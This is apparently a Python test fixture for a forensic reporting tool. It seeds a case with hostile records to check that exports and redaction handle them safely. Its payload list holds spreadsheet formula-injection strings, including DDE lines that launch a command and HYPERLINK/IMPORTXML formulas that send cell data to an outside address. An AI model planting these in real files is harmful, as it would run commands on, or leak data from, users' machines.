"""A case whose records attack spreadsheets, maps, time lines and browsers, and views of it."""

from __future__ import annotations

from pathlib import Path
from typing import Any

from report_helpers import RecordSink, entry, fill, message

from evidence.case import Case
from reports.exchange.format import Written, writer
from reports.redaction.engine import ProfileRedactor
from reports.redaction.profile import RedactionProfile, Replace
from reports.redaction.redactor import Redactor
from reports.scope import Scope
from reports.selection import ArtifactSelection
from reports.view import CaseView

# From OWASP's "CSV Injection", PayloadsAllTheThings and their variants.
PAYLOADS = (
    "=cmd|' /C calc'!A0",
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u3000=1+1",
    "\u00a0=1+1",
    '"=1+1"',
    "'=1+1",
    "''=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1)",
    'DDE ("cmd";"/C calc";"__DdeLink_60_870516294")',
    '=DDE("cmd";"/C calc";"!A0")',
    '=HYPERLINK("http://192.0.2.1/?"&A1,"click")',
    '=IMPORTXML(CONCAT("http://192.0.2.1/",A1),"//a")',
    "x;=1+1",
    "x|=1+1",
    'x;"=1+1',
    "x\n=1+1",
    "x;'=1+1",
    "+447700900142",
    "007",
    "1e5",
    "https://192.0.2.1/",
    "mailto:a@b.example",
    "<r><t>x</t></r>",
    "<r></is></c><c r='B2'><f>1+1</f></c><c><is><r></r>",
    "_x0041_",
    "{=1+1}",
    "zero\u200b=1+1",
)
HIDDEN = "Tuyet Mai"


def call(at: int, /, **fields: Any) -> dict[str, Any]:
    """A call stated by the entry of that number."""
    body = message(at, "calls.db", "")
    body |= {"id": f"1-{at}-7", "kind": "call", "number": 7, "locator": f"row calls:{at}"}
    return body | {"fields": {"service": "phone", "direction": "incoming", **fields}}


def place(number: int, latitude: Any, longitude: Any, **changes: Any) -> dict[str, Any]:
    """A location stated by the entry of that number."""
    fields = {"latitude": latitude, "longitude": longitude, "origin": f"EXIF GPS of {HIDDEN} <b>$[name]</b>"}
    body = message(number, "places.db", "")
    body |= {"id": f"1-{number}-8", "kind": "location", "number": 8, "locator": f"row places:{number}"}
    return body | {"fields": {key: value for key, value in fields.items() if value is not None}} | changes


def fill_for_exchange(case: Case) -> None:
    """The hostile records of all reports, then those of this file from entry 1000 on."""
    fill(case)
    sink = RecordSink(case)
    for number, payload in enumerate(PAYLOADS, 1000):
        sink.add("entry", entry(number, payload))
        sink.add("artifact", message(number, payload, payload))
    sink.add("artifact", call(1000, number="+447700900142", duration_s=62, name=HIDDEN))
    sink.add("artifact", call(1001, number="007", duration_s="62.5", name="x" * 40_000))
    sink.add("artifact", call(1002, number=None, duration_s=9007199254740991, name="\U0001f600" * 20_000))
    for number, (latitude, longitude) in enumerate(PLACES, 1010):
        sink.add("artifact", place(number, latitude, longitude))
    sink.add("artifact", place(1030, "1.5", "+2.5", time=None, times={}, times_raw={}))
    fields = {"latitude": "-33.9", "longitude": "18.4", "altitude_m": "12.5", "make": "Ex & Sons"}
    sink.add("artifact", place(1031, "0", "0", kind="media", fields=fields))
    times = {"modified": "1969-12-31T23:59:59+00:00", "accessed": "2026-03-02T10:00:00.123456789+00:00"}
    times |= {"changed": "2026-03-02T10:00:00+00:00", "born": None}
    deleted = {"state": "deleted", "zone_assumed": True, "pathspec": "1/raw/tsk:77-128-4"}
    sink.add("entry", entry(2000, "a|b %41 50% line\nfeed\u202egpj", times=times, **deleted))
    nothing = {"time": None, "times": {"sent": None}, "times_raw": {"sent": "99999999999999 (unix_s)"}}
    sink.add("artifact", message(2000, "a", "no moment") | nothing)


PLACES = (
    ("51.4541667", "-0.9780556"),
    ("-90", "180"),
    ("90.0000001", "0"),
    ("0", "-180.5"),
    ("NaN", "0"),
    ("1e1", "0"),
    ("[redacted]", "0"),
    ("12.5", None),
    ("\u0661\u0662", "0"),
)
DRAWN = 4
UNREADABLE = 5
OUT_OF_RANGE = 2


def hiding() -> ProfileRedactor:
    """A redactor that hides one name."""
    return ProfileRedactor(
        RedactionProfile(name="test", replace=(Replace(label="victim 1", names=(HIDDEN,)),))
    )


def written(
    case: Case,
    format_name: str,
    path: Path,
    *,
    scope: Scope | None = None,
    select: ArtifactSelection | None = None,
    redactor: Redactor | None = None,
) -> Written:
    """Writes the format from a view of the case."""
    with CaseView(case, select, scope, redactor) as view:
        return writer(format_name)(view, path)
